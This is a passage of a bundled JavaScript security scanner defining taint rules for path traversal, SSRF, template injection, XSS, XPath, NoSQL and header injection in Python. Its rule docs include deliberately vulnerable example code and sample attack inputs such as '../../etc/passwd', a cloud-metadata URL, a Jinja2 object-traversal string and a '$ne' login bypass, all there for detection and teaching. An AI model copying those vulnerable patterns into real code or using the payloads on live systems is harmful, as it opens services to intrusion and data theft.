        references: ["https://cwe.mitre.org/data/definitions/601.html", "https://cheatsheetseries.owasp.org/cheatsheets/Unvalidated_Redirects_and_Forwards_Cheat_Sheet.html"]
      }
    });
  }
});

// dist/rules/path-traversal/path-traversal-request.js
function pathMethodReceiver(call, module2) {
  const callee = call.childForFieldName("function");
  const receiver = callee?.type === "attribute" ? callee.childForFieldName("object") : null;
  if (PATH_METHODS.test(module2.callName(call) ?? ""))
    return receiver;
  if (!receiver || !PATH_METHOD_NAMES.includes(callee?.childForFieldName("attribute")?.text ?? ""))
    return void 0;
  return isPathExpression(receiver, module2, 0) ? receiver : void 0;
}
function isPathExpression(node, module2, depth) {
  if (depth > 6)
    return false;
  switch (node.type) {
    case "parenthesized_expression":
      return !!node.firstNamedChild && isPathExpression(node.firstNamedChild, module2, depth + 1);
    case "identifier": {
      const values = module2.valuesOf(node);
      return values?.length === 1 && isPathExpression(values[0], module2, depth + 1);
    }
    case "binary_operator": {
      const left = node.childForFieldName("left");
      return node.childForFieldName("operator")?.type === "/" && !!left && isPathExpression(left, module2, depth + 1);
    }
    case "attribute": {
      const object = node.childForFieldName("object");
      return node.childForFieldName("attribute")?.text === "parent" && !!object && isPathExpression(object, module2, depth + 1);
    }
    case "call": {
      if (PATH_CONSTRUCTOR.test(module2.callName(node) ?? ""))
        return true;
      const callee = node.childForFieldName("function");
      const object = callee?.type === "attribute" ? callee.childForFieldName("object") : null;
      return !!object && PATH_DERIVING.has(callee?.childForFieldName("attribute")?.text ?? "") && isPathExpression(object, module2, depth + 1);
    }
    default:
      return false;
  }
}
var PATH_SINKS, PATH_METHOD_NAMES, PATH_METHODS, SINK_LAST_NAMES2, PATH_CONSTRUCTOR, PATH_DERIVING, path_traversal_request_default;
var init_path_traversal_request = __esm({
  "dist/rules/path-traversal/path-traversal-request.js"() {
    "use strict";
    init_taint_rule();
    init_name_triggers();
    PATH_SINKS = {
      open: { keyword: "file", position: 0 },
      "io.open": { keyword: "file", position: 0 },
      "codecs.open": { keyword: "filename", position: 0 },
      "os.open": { keyword: "path", position: 0 },
      "os.remove": { keyword: "path", position: 0 },
      "os.unlink": { keyword: "path", position: 0 },
      "shutil.rmtree": { keyword: "path", position: 0 },
      "flask.send_file": { keyword: "path_or_file", position: 0 },
      // send_from_directory joins the file name safely; the directory is not checked.
      "flask.send_from_directory": { keyword: "directory", position: 0 },
      "starlette.responses.FileResponse": { keyword: "path", position: 0 },
      "fastapi.responses.FileResponse": { keyword: "path", position: 0 }
    };
    PATH_METHOD_NAMES = ["open", "read_text", "read_bytes", "write_text", "write_bytes", "unlink", "rmdir"];
    PATH_METHODS = new RegExp(`^pathlib\\.(Pure)?(Posix|Windows)?Path\\(\\)\\.(${PATH_METHOD_NAMES.join("|")})$`);
    SINK_LAST_NAMES2 = [...Object.keys(PATH_SINKS).map(lastName), ...PATH_METHOD_NAMES];
    PATH_CONSTRUCTOR = /^pathlib\.(Pure)?(Posix|Windows)?Path$/;
    PATH_DERIVING = /* @__PURE__ */ new Set(["joinpath", "resolve", "absolute", "expanduser", "with_name", "with_suffix", "with_stem", "parent"]);
    path_traversal_request_default = taintRule({
      id: "path-traversal-request",
      aliases: [],
      category: "path-traversal",
      cwe: 22,
      severity: "high",
      confidence: "high",
      cost: "deep",
      sinkClass: "path",
      sinks: PATH_SINKS,
      findSink: pathMethodReceiver,
      // A function of the module's own named `open` is not the builtin.
      when: (_call, module2, name) => name !== "open" || module2.isBuiltin("open"),
      levels: FLOW_LEVELS,
      describe: (source) => `file path comes from ${source} (path traversal)`,
      message: "file path taken from the request: `../` in it reaches files outside the intended directory",
      fix: "Reduce the name to a bare file name (werkzeug.utils.secure_filename, os.path.basename) or join it with safe_join / send_from_directory, then open it.",
      // The sink's name (last segment of its qualified name); request sources include route parameters, which need no word.
      triggers: SINK_LAST_NAMES2,
      // The sinks' last names: the engine hands the handler no other call.
      callees: SINK_LAST_NAMES2,
      docs: {
        why: "A file name from the request joined to a directory (`os.path.join(UPLOADS, name)`) still climbs out with `../../etc/passwd` or replaces the whole path when absolute. The rule follows request data into open(), os.remove(), send_file(), FileResponse and pathlib methods; basename/secure_filename/safe_join and allow-list checks end the flow.",
        bad: [
          'import os\nfrom flask import request, send_file\ndef download():\n    name = request.args["file"]\n    return send_file(os.path.join("/srv/files", name))\n',
          'def show(request):\n    with open("/srv/reports/" + request.GET["report"]) as fh:\n        return fh.read()\n'
        ],
        good: [
          'import os\nfrom flask import request, send_file\nfrom werkzeug.utils import secure_filename\ndef download():\n    name = secure_filename(request.args["file"])\n    return send_file(os.path.join("/srv/files", name))\n',
          'from flask import request, send_from_directory\ndef download():\n    return send_from_directory("/srv/files", request.args["file"])\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/22.html", "https://owasp.org/www-community/attacks/Path_Traversal", "https://werkzeug.palletsprojects.com/en/stable/utils/#werkzeug.utils.secure_filename"]
      }
    });
  }
});

// dist/rules/ssrf/ssrf.js
var HTTP_VERBS, CLIENTS, URL_POSITION, URL_ARGUMENTS, ssrf_default;
var init_ssrf = __esm({
  "dist/rules/ssrf/ssrf.js"() {
    "use strict";
    init_taint_rule();
    init_name_triggers();
    HTTP_VERBS = ["get", "post", "put", "patch", "delete", "head", "options"];
    CLIENTS = ["requests", "requests.Session()", "requests.session()", "requests.sessions.Session()", "httpx", "httpx.Client()", "httpx.AsyncClient()", "aiohttp.ClientSession()"];
    URL_POSITION = new Map([
      ...CLIENTS.flatMap((client) => HTTP_VERBS.map((verb) => [`${client}.${verb}`, 0])),
      ...CLIENTS.map((client) => [`${client}.request`, 1]),
      ["urllib.request.urlopen", 0],
      ["urllib.request.Request", 0],
      ["urllib2.urlopen", 0],
      ["urllib2.Request", 0],
      ["urllib3.PoolManager().request", 1],
      ["urllib3.PoolManager().urlopen", 1],
      ["http.client.HTTPConnection", 0],
      ["http.client.HTTPSConnection", 0]
    ]);
    URL_ARGUMENTS = Object.fromEntries([...URL_POSITION].map(([name, position]) => [name, { keyword: "url", position }]));
    ssrf_default = taintRule({
      id: "ssrf",
      aliases: [],
      category: "ssrf",
      cwe: 918,
      severity: "high",
      confidence: "high",
      cost: "deep",
      sinkClass: "url",
      sinks: URL_ARGUMENTS,
      // Who picks the scheme and host decides what the server reaches; the path and query after them do not.
      leading: true,
      levels: FLOW_LEVELS,
      describe: (source) => `URL comes from ${source} (server-side request forgery)`,
      message: "server fetches a URL taken from the request (server-side request forgery)",
      fix: "Do not fetch URLs the client chooses: map a key to a known URL, or parse the URL and check scheme and host against an allow-list (and block private addresses) before fetching.",
      // Each callee's module (`requests`, `urllib`), written in its import or as the bare name; for http.client, whose
      // `http` is in every URL, the class name.
      triggers: [...new Set([...URL_POSITION.keys()].map((name) => name.startsWith("http.") ? lastName(name) : name.split(".")[0]))],
      callees: [...URL_POSITION.keys()].map(lastName),
      docs: {
        why: "A server that fetches whatever URL the client names can be pointed at internal services (`http://169.254.169.254/` cloud metadata, admin consoles, `file://`), reading what the client could never reach. The rule follows request data into requests/httpx/urllib/aiohttp calls; a URL whose constant start fixes the host, or one that passed an allow-list check, is accepted.",
        bad: [
          'import requests\ndef preview(request):\n    url = request.GET["url"]\n    return requests.get(url, timeout=5).text\n',
          'from urllib.request import urlopen\nfrom flask import request\ndef fetch():\n    return urlopen(request.args.get("u")).read()\n'
        ],
        good: [
          'import requests\ndef item(request):\n    return requests.get("https://api.example.com/items/" + request.GET["id"], timeout=5).json()\n',
          'import requests\nFEEDS = {"news": "https://example.com/news.xml"}\ndef feed(request):\n    return requests.get(FEEDS[request.GET["name"]], timeout=5).text\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/918.html", "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html"]
      }
    });
  }
});

// dist/rules/template-injection/template-injection.js
var TEMPLATE_SINKS, TEMPLATE_LEVELS, template_injection_default;
var init_template_injection = __esm({
  "dist/rules/template-injection/template-injection.js"() {
    "use strict";
    init_name_triggers();
    init_taint_rule();
    init_arguments();
    TEMPLATE_SINKS = {
      "flask.render_template_string": { keyword: "source", position: 0 },
      "flask.templating.render_template_string": { keyword: "source", position: 0 },
      "jinja2.Template": { keyword: "source", position: 0 },
      "jinja2.Environment().from_string": { keyword: "source", position: 0 },
      "jinja2.environment.Environment().from_string": { keyword: "source", position: 0 },
      "django.template.Template": { keyword: "template_string", position: 0 },
      "django.template.Engine().from_string": { keyword: "template_code", position: 0 },
      "mako.template.Template": { keyword: "text", position: 0 }
    };
    TEMPLATE_LEVELS = {
      ...SINK_LEVELS,
      "stored-input": "none",
      unknown: { severity: "low", confidence: "low" },
      sanitised: "none",
      constant: "none"
    };
    template_injection_default = taintRule({
      id: "template-injection",
      aliases: [],
      category: "template-injection",
      cwe: 1336,
      severity: "high",
      confidence: "high",
      cost: "deep",
      sinkClass: "template",
      sinks: TEMPLATE_SINKS,
      // jinja2 environments of any name: `env.from_string(...)` in a module that imports jinja2.
      findSink: (call, module2) => module2.callName(call)?.endsWith(".from_string") && module2.importsModule("jinja2") ? argument(call, "source", 0) ?? null : void 0,
      when: (_call, _module, name) => !/Sandboxed/.test(name ?? ""),
      levels: TEMPLATE_LEVELS,
      describe: (source) => `template source comes from ${source} (server-side template injection)`,
      message: "template source built at run time: whoever controls it runs code in the template engine (SSTI)",
      fix: 'Keep template source constant (a file or a literal) and pass data as context variables: render_template_string("Hello {{ name }}", name=name).',
      // Each sink's last name, written in its import or call; `from_string` also covers the jinja2 fallback below.
      triggers: [...Object.keys(TEMPLATE_SINKS).map(lastName), "from_string"],
      // The handler matches callName against TEMPLATE_SINKS or `*.from_string`: the callee's last segment is one of these.
      callees: [...Object.keys(TEMPLATE_SINKS).map(lastName), "from_string"],
      docs: {
        why: "Jinja2, Django and Mako templates are programs: `{{ self.__init__.__globals__ }}` reaches Python objects and from there the operating system. Template *source* that contains request data lets the client write that program (server-side template injection). Request data \u2192 high severity, high confidence; a function parameter \u2192 medium; templates read from files are not reported.",
        bad: [
          'from flask import request, render_template_string\ndef hello():\n    name = request.args.get("name")\n    return render_template_string("<h1>Hello " + name + "</h1>")\n',
          "import jinja2\ndef render(text):\n    return jinja2.Template(text).render()\n"
        ],
        good: [
          'from flask import request, render_template_string\ndef hello():\n    return render_template_string("<h1>Hello {{ name }}</h1>", name=request.args.get("name"))\n',
          'import jinja2\nPAGE = jinja2.Template("<p>{{ body }}</p>")\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/1336.html", "https://portswigger.net/research/server-side-template-injection", "https://jinja.palletsprojects.com/en/stable/sandbox/"]
      }
    });
  }
});

// dist/rules/xss/xss-response-from-request.js
function sinkOf(name) {
  return HTML_SINKS[name.replace(/^django\.http\.response\./, "django.http.")];
}
function responseBody(node, module2) {
  const name = module2.callName(node);
  const spec = name ? sinkOf(name) : void 0;
  if (!spec)
    return void 0;
  const contentType = keywordArgument(node, "content_type") ?? keywordArgument(node, "media_type") ?? keywordArgument(node, "mimetype");
  const declared = contentType ? module2.constant(contentType) : void 0;
  if (typeof declared === "string" && !/html/i.test(declared))
    return void 0;
  const value = argument(node, spec.name, spec.position) ?? BODY_KEYWORDS.map((keyword) => keywordArgument(node, keyword)).find(Boolean);
  return value ? { value, refine: lambdaEventIsRequest(node) } : void 0;
}
function returnedBody(node, module2) {
  const value = node.firstNamedChild;
  const fn = enclosingFunction(node);
  if (!value || fn?.type !== "function_definition")
    return void 0;
  const body = lambdaHtmlBody(value, fn, module2);
  if (body)
    return { value: body, label: "HTML body returned by a Lambda handler", refine: lambdaEventIsRequest(node) };
  if (!module2.importsModule("flask") || !isStringBuilt(value, module2) || !isRouteHandler(fn))
    return void 0;
  return { value, label: "return from a Flask view", refine: lambdaEventIsRequest(node) };
}
function lambdaEventIsRequest(sink) {
  return (trace) => fromLambdaEvent(trace, sink) ? { ...trace, kind: "request" } : trace;
}
function fromLambdaEvent(trace, sink) {
  if (trace.kind !== "parameter")
    return false;
  const fn = enclosingFunction(sink);
  const parameters = fn?.childForFieldName("parameters");
  if (!parameters || !LAMBDA_PARAMETERS.test(parameters.text))
    return false;
  const event = parameters.namedChildren[0]?.text.split(":")[0].trim();
  return !!event && trace.flow[0]?.startsWith(`${event} (parameter`) === true;
}
function lambdaHtmlBody(value, fn, module2) {
  if (value.type !== "dictionary" || !LAMBDA_PARAMETERS.test(fn.childForFieldName("parameters")?.text ?? ""))
    return void 0;
  const entry = (dictionary, key) => dictionary.namedChildren.find((pair) => {
    const name = pair.type === "pair" ? pair.childForFieldName("key") : null;
    const text = name ? module2.constant(name) : void 0;
    return typeof text === "string" && key.test(text);
  })?.childForFieldName("value") ?? void 0;
  const headers = entry(value, /^headers$/);
  const contentType = headers?.type === "dictionary" ? entry(headers, /^content-type$/i) : void 0;
  const declared = contentType ? module2.constant(contentType) : void 0;
  return typeof declared === "string" && /html/i.test(declared) ? entry(value, /^body$/) : void 0;
}
function isStringBuilt(node, module2, depth = 0) {
  if (depth > 3)
    return false;
  if ((node.type === "subscript" || node.type === "call") && STRING_MEMBERS.test(node.text) && !/^\w+\(/.test(node.text))
    return true;
  if (node.type === "call")
    return module2.calleeAttribute(node) === "format" || module2.calleeAttribute(node) === "join";
  if (node.type === "identifier")
    return (module2.valuesOf(node) ?? []).some((value) => value.type !== "identifier" && isStringBuilt(value, module2, depth + 1));
  return module2.fold(node) !== null;
}
var HTML_SINKS, BODY_KEYWORDS, LAMBDA_PARAMETERS, xss_response_from_request_default, STRING_MEMBERS;
var init_xss_response_from_request = __esm({
  "dist/rules/xss/xss-response-from-request.js"() {
    "use strict";
    init_name_triggers();
    init_taint_rule();
    init_syntax();
    init_arguments();
    init_taint();
    HTML_SINKS = {
      "django.http.HttpResponse": { name: "content", position: 0 },
      "django.http.HttpResponseBadRequest": { name: "content", position: 0 },
      "django.http.HttpResponseNotFound": { name: "content", position: 0 },
      "django.http.HttpResponseForbidden": { name: "content", position: 0 },
      "django.http.HttpResponseServerError": { name: "content", position: 0 },
      "django.http.HttpResponseGone": { name: "content", position: 0 },
      "django.utils.safestring.mark_safe": { name: "s", position: 0 },
      "django.utils.safestring.SafeString": { name: "s", position: 0 },
      "django.utils.html.mark_safe": { name: "s", position: 0 },
      "flask.make_response": { name: "rv", position: 0 },
      "flask.Markup": { name: "object", position: 0 },
      "markupsafe.Markup": { name: "object", position: 0 },
      "jinja2.Markup": { name: "object", position: 0 },
      "starlette.responses.HTMLResponse": { name: "content", position: 0 },
      "fastapi.responses.HTMLResponse": { name: "content", position: 0 },
      // Response classes whose default content type is text/html.
      "flask.Response": { name: "response", position: 0 },
      "flask.wrappers.Response": { name: "response", position: 0 },
      "werkzeug.Response": { name: "response", position: 0 },
      "werkzeug.wrappers.Response": { name: "response", position: 0 },
      "pyramid.response.Response": { name: "body", position: 0 },
      "webob.Response": { name: "body", position: 0 },
      "webob.response.Response": { name: "body", position: 0 }
    };
    BODY_KEYWORDS = ["text", "body", "content", "response"];
    LAMBDA_PARAMETERS = /^\(\s*(event|evt)\s*(?::[^,]*)?,\s*_?context\s*(?::[^,)]*)?\)$/;
    xss_response_from_request_default = taintRule({
      id: "xss-response-from-request",
      aliases: [],
      category: "xss",
      cwe: 79,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "request data is sent back as HTML without escaping (reflected XSS)",
      fix: "Render through a template (autoescaping on), or escape the value with django.utils.html.escape / markupsafe.escape before it enters the response.",
      // A sink's last segment, or `flask` for the return from a Flask view (which needs `import flask`).
      triggers: [...Object.keys(HTML_SINKS).map(lastName), "flask", /context/],
      // The sinks' last segments (the `django.http.response.` spelling keeps them); the return_statement handler is not filtered.
      callees: Object.keys(HTML_SINKS).map(lastName),
      docs: {
        why: "A response body is rendered by the browser as HTML unless its content type says otherwise. Request data copied into it unescaped lets whoever crafts the link run script in the victim's session. The rule follows the value inside the function, from `request.GET`/`request.args`/route parameters through assignments and string building into HttpResponse, mark_safe, make_response, Markup, Flask/Werkzeug/Pyramid/WebOb Response, a string returned by a Flask route, or the `body` of an AWS Lambda handler's HTML response (the API Gateway event is request data); escaping on the way or a non-HTML content type ends the flow.",
        bad: [
          'from django.http import HttpResponse\ndef hello(request):\n    name = request.GET.get("name", "")\n    return HttpResponse("<h1>Hello " + name + "</h1>")\n',
          `from flask import Flask, request
app = Flask(__name__)
@app.route("/hello")
def hello():
    return f"<h1>Hello {request.args['name']}</h1>"
`,
          'def handler(event, context):\n    name = event["queryStringParameters"]["name"]\n    return {"statusCode": 200, "headers": {"Content-Type": "text/html"}, "body": "<h1>" + name + "</h1>"}\n'
        ],
        good: [
          'from django.http import HttpResponse\nfrom django.utils.html import escape\ndef hello(request):\n    name = escape(request.GET.get("name", ""))\n    return HttpResponse("<h1>Hello " + name + "</h1>")\n',
          'from django.http import HttpResponse\ndef hello(request):\n    return HttpResponse(request.GET["name"], content_type="text/plain")\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/79.html", "https://owasp.org/www-community/attacks/xss/", "https://docs.djangoproject.com/en/stable/topics/security/#cross-site-scripting-xss-protection"]
      },
      sinkClass: "html",
      levels: REQUEST_ONLY,
      describe: (source) => `${source} is sent back as HTML without escaping (reflected XSS)`,
      match: { call: responseBody, return_statement: returnedBody }
    });
    STRING_MEMBERS = /(^|\.)(args|form|values|cookies|headers)(\.get\(|\[)/;
  }
});

// dist/rules/xpath-injection/xpath-injection.js
function builtText(value, module2) {
  const shape = module2.fold(value);
  if (!shape || shape.constant || shape.dynamic.length === 0)
    return void 0;
  if (shape.text.split(`{${HOLE}}`).join("").split(HOLE).length === 1)
    return void 0;
  const text = shape.text.split(HOLE).join("");
  return text.length > 0 ? text : void 0;
}
function xpathExpression(call, module2) {
  const name = module2.callName(call);
  const spec = name ? XPATH_FUNCTIONS[name] : void 0;
  if (spec) {
    const value = argument(call, spec.name, spec.position);
    return value ? { value, pathMethod: false } : void 0;
  }
  if (call.childForFieldName("function")?.type !== "attribute")
    return void 0;
  const method = module2.calleeAttribute(call) ?? "";
  if (method === "xpath") {
    const value = argument(call, XPATH_METHOD.name, XPATH_METHOD.position);
    return value ? { value, pathMethod: false } : void 0;
  }
  if (PATH_METHODS2.has(method) && XML_MODULES.some((candidate) => module2.importsModule(candidate))) {
    const value = argument(call, "path", 0);
    return value ? { value, pathMethod: true } : void 0;
  }
  return void 0;
}
function xpathSink(call, module2) {
  const sink = xpathExpression(call, module2);
  if (!sink)
    return void 0;
  const built = builtText(sink.value, module2);
  if (sink.pathMethod && !(built && XPATH_SYNTAX.test(built)))
    return void 0;
  return { value: sink.value, refine: (trace) => (trace.kind === "parameter" || trace.kind === "unknown") && !built ? void 0 : trace };
}
var XPATH_FUNCTIONS, XPATH_METHOD, PATH_METHODS2, XML_MODULES, XPATH_SYNTAX, LEVELS2, xpath_injection_default;
var init_xpath_injection = __esm({
  "dist/rules/xpath-injection/xpath-injection.js"() {
    "use strict";
    init_name_triggers();
    init_taint_rule();
    init_arguments();
    init_literals();
    XPATH_FUNCTIONS = {
      "lxml.etree.XPath": { name: "path", position: 0 },
      "lxml.etree.ETXPath": { name: "path", position: 0 }
    };
    XPATH_METHOD = { name: "_path", position: 0 };
    PATH_METHODS2 = /* @__PURE__ */ new Set(["find", "findall", "findtext", "iterfind"]);
    XML_MODULES = ["xml.etree", "lxml", "defusedxml", "elementtree"];
    XPATH_SYNTAX = /[/[@]|\.\/\//;
    LEVELS2 = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "high", confidence: "medium" },
      "stored-input": { severity: "high", confidence: "medium" },
      parameter: { severity: "medium", confidence: "low" },
      unknown: { severity: "low", confidence: "low" }
    });
    xpath_injection_default = taintRule({
      id: "xpath-injection",
      aliases: [],
      category: "xpath-injection",
      cwe: 643,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: "XPath expression built from run-time data: quotes and brackets in it change the query (XPath injection)",
      fix: 'Keep the expression constant and bind values as XPath variables: `tree.xpath("//user[@name=$name]", name=value)`, `etree.XPath("//user[@name=$name]")(tree, name=value)`.',
      triggers: [...Object.keys(XPATH_FUNCTIONS).map(lastName), "xpath", ...PATH_METHODS2],
      callees: [...Object.keys(XPATH_FUNCTIONS).map(lastName), "xpath", ...PATH_METHODS2],
      docs: {
        why: "A name like `' or '1'='1` turns `//user[@name='NAME']` into a query that matches every node: logins built on XML user stores pass, and hidden nodes leak. XPath has no escaping function, so values must be bound as variables. The rule follows the expression passed to lxml `XPath()`/`ETXPath()`, `.xpath()` (lxml, parsel/Scrapy) and ElementTree `find`/`findall`/`findtext`/`iterfind`: request data \u2192 high severity; a parameter or an unknown value formatted into it at the call \u2192 shown, not blocking.",
        bad: [
          `from flask import request
from lxml import etree
def login():
    tree = etree.parse("users.xml")
    name = request.form["name"]
    return tree.xpath(f"//user[@name='{name}']")
`,
          `import xml.etree.ElementTree as ET
def price(request):
    root = ET.parse("catalog.xml").getroot()
    return root.find(".//item[@sku='" + request.GET["sku"] + "']/price").text
`
        ],
        good: [
          'from flask import request\nfrom lxml import etree\ndef login():\n    tree = etree.parse("users.xml")\n    return tree.xpath("//user[@name=$name]", name=request.form["name"])\n',
          `import xml.etree.ElementTree as ET
def price(request):
    root = ET.parse("catalog.xml").getroot()
    return root.find(".//item[@sku='%d']/price" % int(request.GET["sku"])).text
`
        ],
        references: ["https://cwe.mitre.org/data/definitions/643.html", "https://owasp.org/www-community/attacks/XPATH_Injection", "https://lxml.de/xpathxslt.html#the-xpath-method"]
      },
      sinkClass: "xpath",
      levels: LEVELS2,
      describe: (source) => `XPath expression built from ${source} (XPath injection)`,
      match: { call: xpathSink }
    });
  }
});

// dist/rules/nosql-injection/nosql-injection.js
function isDocument(node, module2, depth = 0) {
  if (depth > 3)
    return false;
  switch (node.type) {
    case "dictionary":
    case "dictionary_comprehension":
    case "list":
    case "list_comprehension":
      return true;
    case "parenthesized_expression":
    case "await":
      return !!node.firstNamedChild && isDocument(node.firstNamedChild, module2, depth + 1);
    case "call": {
      const name = module2.callName(node) ?? "";
      if (name === "dict" || JSON_DECODERS.has(name))
        return true;
      const callee = node.childForFieldName("function");
      return !!callee && JSON_MEMBERS.test(callee.text);
    }
    case "attribute":
      return JSON_MEMBERS.test(node.text);
    case "identifier":
      return (module2.valuesOf(node) ?? []).some((value) => isDocument(value, module2, depth + 1));
    default:
      return false;
  }
}
function documentParts(document, module2, depth = 0) {
  if (depth > 8)
    return [document];
  if (document.type === "identifier") {
    const values = module2.valuesOf(document) ?? [];
    const displays = values.length > 0 && values.every((value) => value.type === "dictionary" || value.type === "list");
    return displays ? values.flatMap((value) => documentParts(value, module2, depth + 1)) : [document];
  }
  if (document.type !== "dictionary" && document.type !== "list")
    return [document];
  return document.namedChildren.flatMap((item) => (item.type === "pair" ? [item.childForFieldName("key"), item.childForFieldName("value")].filter((part) => !!part) : [item]).flatMap((part) => documentParts(part, module2, depth + 1)));
}
function isWhereKey(pair, module2) {
  const key = pair.childForFieldName("key");
  return !!key && module2.constant(key) === "$where";
}
function whereClause(node, module2) {
  const value = isWhereKey(node, module2) ? node.childForFieldName("value") : null;
  if (!value)
    return void 0;
  return { value, label: "$where", sinkClass: "code", levels: WHERE_LEVELS, describe: (source) => `MongoDB $where JavaScript built from ${source}` };
}
function queryParts(node, module2) {
  const raw = keywordArgument(node, RAW_KEYWORD);
  const method = node.childForFieldName("function")?.type === "attribute" ? module2.calleeAttribute(node) ?? "" : "";
  const spec = Object.hasOwn(QUERY_METHODS, method) ? QUERY_METHODS[method] : void 0;
  const filter = raw ?? (spec ? argument(node, spec.name, spec.position) : void 0);
  if (!filter || !isDocument(filter, module2))
    return [];
  if (filter.type === "dictionary" && filter.namedChildren.some((pair) => pair.type === "pair" && isWhereKey(pair, module2)))
    return [];
  return documentParts(filter, module2).map((part) => ({
    value: part,
    // A value that is no document itself can only be an operator when it comes from decoded JSON; a query
    // document read from a file is configuration, not input.
    refine: (trace) => !isDocument(part, module2) && (trace.kind !== "request" || STRING_SOURCE.test(trace.flow[0] ?? "")) || trace.origin === "file" ? void 0 : trace
  }));
}
var QUERY_METHODS, RAW_KEYWORD, FILTER_LEVELS, STRING_SOURCE, WHERE_LEVELS, JSON_DECODERS, JSON_MEMBERS, nosql_injection_default;
var init_nosql_injection = __esm({
  "dist/rules/nosql-injection/nosql-injection.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    QUERY_METHODS = {
      find: { name: "filter", position: 0 },
      find_one: { name: "filter", position: 0 },
      find_one_and_delete: { name: "filter", position: 0 },
      find_one_and_replace: { name: "filter", position: 0 },
      find_one_and_update: { name: "filter", position: 0 },
      find_raw_batches: { name: "filter", position: 0 },
      count_documents: { name: "filter", position: 0 },
      count: { name: "filter", position: 0 },
      delete_one: { name: "filter", position: 0 },
      delete_many: { name: "filter", position: 0 },
      update_one: { name: "filter", position: 0 },
      update_many: { name: "filter", position: 0 },
      replace_one: { name: "filter", position: 0 },
      distinct: { name: "filter", position: 1 },
      aggregate: { name: "pipeline", position: 0 },
      aggregate_raw_batches: { name: "pipeline", position: 0 }
    };
    RAW_KEYWORD = "__raw__";
    FILTER_LEVELS = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "medium", confidence: "medium" },
      "stored-input": { severity: "medium", confidence: "medium" }
    });
    STRING_SOURCE = /^[\w.]*\b(args|GET|POST|form|values|cookies|COOKIES|headers|query_params|path_params|view_args|META|environ|query_string)\b|\(parameter of view\b/;
    WHERE_LEVELS = levelTable({
      request: { severity: "high", confidence: "high" },
      "user-input": { severity: "high", confidence: "medium" },
      "stored-input": { severity: "high", confidence: "medium" },
      parameter: { severity: "medium", confidence: "medium" }
    });
    JSON_DECODERS = /* @__PURE__ */ new Set(["json.loads", "flask.json.loads", "ujson.loads", "orjson.loads", "simplejson.loads", "bson.json_util.loads"]);
    JSON_MEMBERS = /(^|\.)(json|get_json|data)(\(\))?$/;
    nosql_injection_default = taintRule({
      id: "nosql-injection",
      aliases: [],
      category: "nosql-injection",
      cwe: 943,
      severity: "high",
      confidence: "high",
      cost: "deep",
      message: 'MongoDB query built from request data: operators in it (`{"$ne": null}`, `$where` JavaScript) change the query (NoSQL injection)',
      fix: "Cast each value to the type the query expects (`str(...)`, `int(...)`, `ObjectId(...)`) or validate the document with a schema; never build `$where` JavaScript from input.",
      triggers: [...Object.keys(QUERY_METHODS), "$where", RAW_KEYWORD],
      // Query methods by name; `__raw__` rides on any callee (`User.objects(...)`), so it is found by keyword.
      callees: Object.keys(QUERY_METHODS),
      calleeKeywords: /^__raw__$/,
      docs: {
        why: 'A JSON body can carry objects where the code expects strings: `{"user": "admin", "password": {"$ne": ""}}` passed into `find_one` logs in without the password, and `$regex`/`$gt` operators read data they should not. A `$where` clause runs JavaScript on the database server, so text formatted into it is code injection. The rule follows request data into pymongo/Motor filters and pipelines (a dict, list or decoded JSON document), MongoEngine `__raw__` queries and `$where` clauses; `str()`, `int()` and `ObjectId()` casts end the flow.',
        bad: [
          'from flask import request\nfrom pymongo import MongoClient\nusers = MongoClient().app.users\ndef login():\n    body = request.get_json()\n    return users.find_one({"name": body["name"], "password": body["password"]})\n',
          `from flask import request
def search(db):
    name = request.args["name"]
    return list(db.users.find({"$where": "this.name == '" + name + "'"}))
`
        ],
        good: [
          'from flask import request\nfrom pymongo import MongoClient\nusers = MongoClient().app.users\ndef login():\n    body = request.get_json()\n    return users.find_one({"name": str(body["name"]), "password": str(body["password"])})\n',
          'from flask import request\ndef search(db):\n    return list(db.users.find({"$where": "this.credits > this.debits"}))\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/943.html", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05.6-Testing_for_NoSQL_Injection", "https://www.mongodb.com/docs/manual/reference/operator/query/where/"]
      },
      sinkClass: "nosql",
      levels: FILTER_LEVELS,
      describe: (source) => `MongoDB query document built from ${source}`,
      match: { pair: whereClause, call: queryParts },
      firstOnly: true
    });
  }
});

// dist/rules/header-injection/header-injection.js
function isResponse(node, module2, depth = 0) {
  if (depth > 3)
    return false;
  if (node.type === "attribute") {
    const attribute = node.childForFieldName("attribute")?.text ?? "";
    return RESPONSE_NAME.test(attribute) && !/request/i.test(attribute);
  }
  if (node.type === "call")
    return RESPONSE_FACTORY.test(module2.callName(node) ?? module2.calleeAttribute(node) ?? "");
  if (node.type !== "identifier")
    return false;
  const values = module2.valuesOf(node) ?? [];
  if (values.length > 0)
    return values.some((value) => isResponse(value, module2, depth + 1));
  return RESPONSE_NAME.test(node.text);
}
function isHeaderMap(node, module2) {
  if (node.type !== "attribute" || node.childForFieldName("attribute")?.text !== "headers")
    return false;
  const owner = node.childForFieldName("object");
  return !!owner && isResponse(owner, module2);
}
function assignedHeader(target, module2) {
  if (target.type !== "subscript")
    return void 0;
  const owner = target.childForFieldName("value");
  if (!owner || !(isHeaderMap(owner, module2) || isResponse(owner, module2)))
    return void 0;
  return target.childForFieldName("subscript") ?? void 0;
}
function headerSink(value, at, header, label) {
  const what = /^location$/i.test(header ?? "") ? "Location header (response splitting, open redirect)" : `response header${header ? ` ${header}` : ""} (header injection)`;
  return { value, at, label, describe: (source) => `${source} is written into the ${what}`, refine: lineBreakPossible };
}
function lineBreakPossible(trace) {
  return trace.kind === "request" && LINE_SAFE_SOURCE.test(trace.flow[0] ?? "") ? void 0 : trace;
}
function assignedSink(node, module2) {
  const target = node.childForFieldName("left");
  const value = node.childForFieldName("right");
  const name = target ? assignedHeader(target, module2) : void 0;
  if (!name || !value)
    return void 0;
  const header = module2.constant(name);
  return headerSink(value, node, typeof header === "string" ? header : void 0, target.text);
}
function calledSink(node, module2) {
  const callee = node.childForFieldName("function");
